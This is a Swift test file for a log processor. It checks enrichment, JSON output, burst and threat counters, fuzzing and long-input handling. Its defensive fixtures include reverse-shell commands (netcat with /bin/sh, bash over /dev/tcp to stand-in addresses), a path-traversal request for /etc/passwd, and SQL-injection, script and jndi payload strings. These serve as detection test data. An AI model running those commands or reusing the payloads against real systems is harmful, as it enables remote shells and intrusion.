import JSON
import Model
import Testing

@testable import Processing

@Suite("Log processor")
struct LogProcessorTests {
    private func enrich(_ text: String, component: String = "") -> EnrichedLog {
        var processor = LogProcessor()
        return processor.process(LogEntry(text, component: component), now: noon)
    }

    @Test(
        "severity and category",
        arguments: [
            ("INFO: started", "low", "application"), ("ERROR: division by zero", "high", "error"),
            ("FATAL: cannot go on", "critical", "error"), ("WARN: cache is slow", "medium", "performance"),
            ("ERROR: connection refused", "high", "availability"), ("ERROR: upstream timed out", "high", "performance"),
            ("WARN: option x is deprecated", "medium", "configuration"),
            ("ERROR: authentication required", "high", "security"),
            ("sshd[1]: Connection closed by 192.0.2.1 port 22", "low", "security"),
            ("systemd[1]: Started cron.service.", "low", "system"),
            (#"192.0.2.1 - - [23/Nov/2026:15:34:26 +0000] "GET /x HTTP/1.1" 404 1 "-" "-""#, "low", "access"),
            (#"192.0.2.1 - - [23/Nov/2026:15:34:26 +0000] "GET /x HTTP/1.1" 503 1 "-" "-""#, "high", "access"),
        ])
    func enrichment(line: String, severity: String, category: String) {
        let log = enrich(line)
        #expect(log.severity.rawValue == severity)
        #expect(log.category.rawValue == category)
        #expect(log.matters == (severity != "low"))
        #expect(!log.isActionable)
    }

    @Test("the agent's component and time stand in where the line has none")
    func fallbacks() {
        var processor = LogProcessor()
        var entry = LogEntry("all is well", component: "nginx")
        entry.timestamp = noon + 5
        let log = processor.process(entry, now: noon + 10)
        #expect(log.component == "nginx" && log.timestamp == noon + 5 && log.level == .info)
        #expect(processor.process(LogEntry("x"), now: noon + 10).timestamp == noon + 10)
        #expect(processor.process(LogEntry("2099-01-01T00:00:00Z INFO x"), now: noon).timestamp == noon)
    }

    @Test("the members of processed_logs, for a line with everything")
    func json() throws {
        let line =
            #"203.0.113.9 - - [23/Nov/2026:15:34:26 +0000] "GET /?f=..%2f..%2fetc%2fpasswd HTTP/1.1" 403 153 "-" "curl/7.88.1""#
        let log = enrich(line)
        let json = try JSONParser.parse(JSONWriter.render { $0.object { log.writeMembers(to: &$0) } })
        #expect(json["structured"]?["format"]?.string == "access_combined")
        #expect(json["structured"]?["fields"]?["status"]?.int == 403)
        #expect(json["structured"]?["template"]?.string == "GET / 403")
        #expect(json["structured"]?["template_id"]?.string?.count == 16)
        #expect(json["threats"]?[0]?["rule"]?.string == "web_path_traversal")
        #expect(json["threats"]?[0]?["source_ip"]?.string == "203.0.113.9")
        #expect(json["threats"]?[0]?["severity"]?.string == "medium")
        #expect(json["severity"]?.string == "medium")
        #expect(json["category"]?.string == "security")
        #expect(json["actionable"]?.bool == true)
    }

    @Test("a name that a line has twice is written once")
    func twice() throws {
        let log = enrich(#"{"msg":"x","a":1,"a":2,"b":null}"#)
        let json = try JSONParser.parse(JSONWriter.render { $0.object { log.writeMembers(to: &$0) } })
        #expect(json["structured"]?["fields"]?["a"]?.int == 1)
        #expect(json["structured"]?["fields"]?["b"] == .null)
    }

    @Test("numbers that no double holds are written as text, and names that repair alike are written once")
    func repaired() throws {
        for line in [#"{"msg":"x","a":1e999,"b":-12e-3,"c":1}"#, "a=1e999 b=-12e-3 c=1"] {
            let log = enrich(line)
            let json = try JSONParser.parse(JSONWriter.render { $0.object { log.writeMembers(to: &$0) } })
            #expect(json["structured"]?["fields"]?["a"]?.string == "1e999")
            #expect(json["structured"]?["fields"]?["b"]?.double == -0.012)
        }
        var processor = LogProcessor()
        let bytes = Array(#"{"msg":"x","a"#.utf8) + [0xFF] + Array(#"":1,"a"#.utf8) + [0xFE] + Array(#"":2}"#.utf8)
        let log = processor.process(LogEntry(message: bytes), now: noon)
        let json = try JSONParser.parse(JSONWriter.render { $0.object { log.writeMembers(to: &$0) } })
        #expect(json["structured"]?["fields"]?["a\u{FFFD}"]?.int == 1)
    }

    @Test("a burst of errors is told with the line that makes it one")
    func burst() {
        var processor = LogProcessor()
        let bursts = (0..<30).compactMap { processor.process(LogEntry("ERROR: x \($0)"), now: noon + $0 * 100).burst }
        #expect(bursts.count == 1)
    }

    @Test("counters")
    func counters() {
        var processor = LogProcessor()
        _ = processor.process(["ERROR: a", "ERROR: a", "hello there", "nc -e /bin/sh 203.0.113.9 1"])
        #expect(processor.counters.lines == 4)
        #expect(processor.counters.bytes == 8 + 8 + 11 + 27)
        #expect(processor.counters.levels[Int(LogLevel.error.rawValue)] == 2)
        #expect(processor.counters.threats == 1)
        #expect(processor.counters.newTemplates == 3)
    }
}

@Suite("Hostile log lines")
struct HostileLineTests {
    private static let chosenSeed = seed()

    private static let samples: [String] = [
        #"{"time":"2026-11-23T15:34:26.123Z","level":"warn","msg":"slow \"query\" \u00e9","logger":"db","user":{"id":[7,{}]}}"#,
        #"ts=2026-11-23T15:34:26Z level=error component=tsdb msg="disk \"full\"" free=0"#,
        "<38>Nov 23 15:34:14 web1 sshd[19849]: message repeated 5 times: [ Failed password for invalid user x from 127.0.0.1 port 60092 ssh2]",
        #"<12>1 2026-11-23T15:34:24.489744+00:00 vm myapp - - [timeQuality tzKnown="1"] hello"#,
        #"127.0.0.1 - - [23/Nov/2026:15:34:26 +0000] "GET /?f=..%2f..%252f' or '1'='1<script>${jndi:x} HTTP/1.1" 404 153 "-" "sqlmap""#,
        #"2026/11/23 15:34:26 [error] 2#2: *3 connect() failed, client: 127.0.0.1, server: , request: "GET /up HTTP/1.1", host: "x""#,
        "E1123 15:34:26.123456    1234 reconciler.go:412] failed to sync pod",
        "2026-11-23T15:33:06.703Z  WARN 4711 --- [main] c.a.orders.Api : slow 550e8400-e29b-41d4-a716-446655440000",
        "[   12.345678] nginx[4711]: segfault at 0 ip 00007f IN=eth0 SRC=1.2.3.4 DPT=22 PROTO=TCP listening on 0.0.0.0:80",
        "WARNING:root:bash -i >& /dev/tcp/1.2.3.4/1 | sh ' \" curl mkfifo import socket no errors=0 chmod 4755",
    ]

    @Test("nothing that is cut, mixed or flipped at random makes it trap, and all of it can be shown as JSON")
    func random() throws {
        print("seed \(Self.chosenSeed)")
        var generator = SeededGenerator(Self.chosenSeed)
        var processor = LogProcessor(settings: .init(maximumTemplates: 50))
        var joiners = TraceJoiners(limits: .init(lines: 8, bytes: 4_096), maximumSources: 3)
        var now = noon
        for number in 0..<6_000 {
            let line = randomLine(&generator)
            now = now + Int.random(in: 0...2_000, using: &generator)
            let source = [UInt8.random(in: 0...6, using: &generator)]
            joiners.add(LogEntry(message: line), source: source, number: UInt64(number), now: now) { joined in
                check(&processor, joined.entry, now)
            }
            if number.isMultiple(of: 7) { joiners.flush(now: now) { check(&processor, $0.entry, now) } }
            _ = processor.tick(now: now)
        }
        joiners.flush(now: nil) { check(&processor, $0.entry, now) }
        #expect(processor.patterns(atLeast: .trace, before: now, limit: 100).count <= 50)
        #expect(processor.counters.lines > 0)
    }

    private func check(_ processor: inout LogProcessor, _ entry: LogEntry, _ now: WallTime) {
        let log = processor.process(entry, now: now)
        let text = JSONWriter.render { $0.object { log.writeMembers(to: &$0) } }
        #expect((try? JSONParser.parse(text)) != nil, "\(String(decoding: text, as: UTF8.self))")
        #expect(log.parsed.fields.count <= ParsedLog.maximumFields)
        _ = log.parsed.message
    }

    private func randomLine(_ generator: inout SeededGenerator) -> [UInt8] {
        var line = Array(Self.samples.randomElement(using: &generator)!.utf8)
        for _ in 0..<Int.random(in: 0...6, using: &generator) {
            guard !line.isEmpty else { break }
            let position = Int.random(in: 0..<line.count, using: &generator)
            switch Int.random(in: 0...5, using: &generator) {
            case 0: line[position] = UInt8.random(in: 0...255, using: &generator)
            case 1: line.removeSubrange(position...)
            case 2: line.removeSubrange(..<position)
            case 3: line.insert(contentsOf: Self.samples.randomElement(using: &generator)!.utf8, at: position)
            case 4:
                line.insert(
                    contentsOf: repeatElement(UInt8.random(in: 0...255, using: &generator), count: 50), at: position)
            default: line.remove(at: position)
            }
        }
        return line
    }

    @Test("long lines of every sort are read in time that grows with their length only")
    func long() {
        var processor = LogProcessor()
        let count = 65_536
        let bombs = [
            String(repeating: "[", count: count), #"{"a":"# + String(repeating: "{\"a\":", count: count / 5),
            #"{"a":"# + String(repeating: "[", count: count / 2) + String(repeating: "]", count: count / 2) + "}",
            "{\"a\":\"" + String(repeating: "\\u", count: count / 2), String(repeating: "a=b ", count: count / 4),
            String(repeating: "\"", count: count), String(repeating: " ", count: count),
            String(repeating: "'x' ", count: count / 4),
            String(repeating: "error ", count: count / 6), String(repeating: " from 1.2.3.4 port ", count: count / 19),
            "Failed password for " + String(repeating: "x", count: count), String(repeating: "\0", count: count),
            #"1.1.1.1 - - [23/Nov/2026:15:34:26 +0000] "GET /"# + String(repeating: "%25", count: count / 3)
                + #" HTTP/1.1" 200 1"#,
            #"1.1.1.1 - - [23/Nov/2026:15:34:26 +0000] "GET /?union select "#
                + String(repeating: "select ", count: count / 7) + #"" 200 1"#,
        ]
        for bomb in bombs { #expect(processor.process(LogEntry(bomb), now: noon).parsed.fields.count <= 32) }
        _ = processor.process(LogEntry(message: [UInt8](repeating: 0xFF, count: count)), now: noon)
        #expect(processor.counters.lines == bombs.count + 1)
    }

    @Test("invalid UTF-8 and control characters stay what they are in the bytes, and are repaired in texts")
    func invalid() {
        var processor = LogProcessor()
        let log = processor.process(LogEntry(message: [0x61, 0xFF, 0x00, 0x1B, 0x62]), now: noon)
        #expect(log.parsed.message == "a\u{FFFD}\0\u{1B}b")
        #expect(log.parsed.bytes == [0x61, 0xFF, 0x00, 0x1B, 0x62])
    }
}
